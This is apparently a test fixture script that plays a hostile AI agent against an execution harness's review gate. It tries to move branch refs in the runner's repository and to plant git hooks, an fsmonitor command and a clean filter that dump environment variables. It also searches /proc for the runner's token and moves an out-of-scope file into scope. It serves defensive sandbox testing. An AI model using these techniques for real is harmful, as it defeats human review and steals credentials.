#!/bin/sh
# A stand-in agent that tries, with the shell every executor gives an agent, each way an outside
# review found to get around the review gate or to reach the runner's secrets. It does honest
# work too (a file in scope, committed, and one left uncommitted), and writes what each attempt
# did to src/attempts.txt, so the test can tell an attack that failed from one that never ran.
#
# It needs LEAK_DIR (a folder anyone may write to): everything a hook or fsmonitor command
# would run dumps its environment there, and so does the /proc search, so the test can look
# for the runner's token in it.
set +e
mkdir -p src
log() { printf '%s: %s\n' "$1" "$2" >> src/attempts.txt; }
try() {
  name=$1
  shift
  if "$@" > /dev/null 2>&1; then log "$name" allowed; else log "$name" refused; fi
}

# git refuses a repository another user owns unless told it is safe; the agent's own global
# config (its HOME) can say so, so that check is no defence here: file permissions must be.
git config --global --add safe.directory '*'

# Where the runner's repository is: the clone borrows its objects through alternates.
runner_git=$(dirname "$(head -n1 .git/objects/info/alternates 2>/dev/null)")
log runner-git "$runner_git"

cat > src/honest-work.txt
git add src/honest-work.txt
git -c user.name=agent -c user.email=agent@hq.local commit -qm "honest work"
evil=$(git rev-parse HEAD)

# 1. Move main: in the clone, then in the runner's repository.
try clone-move-main git update-ref refs/heads/main "$evil"
# The runner's repository lacks the commit until someone puts it there.
try runner-fetch git -C "$runner_git" fetch -q "$PWD" "$evil"
try runner-move-main git -C "$runner_git" update-ref refs/heads/main "$evil"

# 2. Move another task's branch to this commit, so the runner would later merge it as approved.
for ref in $(git -C "$runner_git" for-each-ref --format='%(refname)' refs/heads/hq/ 2>/dev/null); do
  case "$ref" in
    *"$HQ_TASK_ID") ;;
    *) try "runner-move-$(basename "$ref")" git -C "$runner_git" update-ref "$ref" "$evil" ;;
  esac
done
try clone-move-other-branch git branch -f hq/some-other-task "$evil"

# 3. A filesystem monitor that runs a command whenever git looks at the work tree.
dump='env > "$LEAK_DIR/fsmonitor-$(id -u)-$$"; exit 1'
try clone-fsmonitor git config core.fsmonitor "sh -c '$dump'"
try runner-fsmonitor git -C "$runner_git" config core.fsmonitor "sh -c '$dump'"

# 4. Hooks that dump the environment of whatever git runs them.
for hook in pre-commit post-commit reference-transaction post-checkout post-merge pre-push post-index-change; do
  for dir in .git/hooks "$runner_git/hooks"; do
    where=clone
    [ "$dir" = .git/hooks ] || where=runner
    if mkdir -p "$dir" 2> /dev/null &&
      printf '#!/bin/sh\nenv > "%s/hook-%s-$(id -u)-$$"\n' "$LEAK_DIR" "$hook" > "$dir/$hook" 2> /dev/null &&
      chmod +x "$dir/$hook" 2> /dev/null; then
      log "$where-hook-$hook" allowed
    else
      log "$where-hook-$hook" refused
    fi
  done
done
# An attributes filter: `git add` would run its clean command.
printf '* filter=dump\n' > .gitattributes
try clone-filter git config filter.dump.clean "sh -c 'env > \"$LEAK_DIR/filter-\$(id -u)-\$\$\"; cat'"

# 5. Every process's environment and command line this user can read, searched for a token.
found=0
for proc in /proc/[0-9]*; do
  for file in environ cmdline; do
    if tr '\0' '\n' 2> /dev/null < "$proc/$file" | grep -q 'hqr_'; then
      tr '\0' '\n' 2> /dev/null < "$proc/$file" >> "$LEAK_DIR/proc-$(id -u)-$$"
      found=$((found + 1))
    fi
  done
done
log proc-token-found "$found"

# 6. Move a file out of a folder outside the scope into one inside it.
if [ -f infra/deploy.yml ]; then
  git mv infra/deploy.yml src/deploy.yml &&
    git -c user.name=agent -c user.email=agent@hq.local commit -qm "move deploy config"
  log rename-out-of-scope done
fi

# Work left uncommitted: the runner commits it, which is when a hook or filter would fire.
echo "left for the runner to commit" > src/uncommitted.txt
git add -N src/uncommitted.txt 2> /dev/null
exit 0
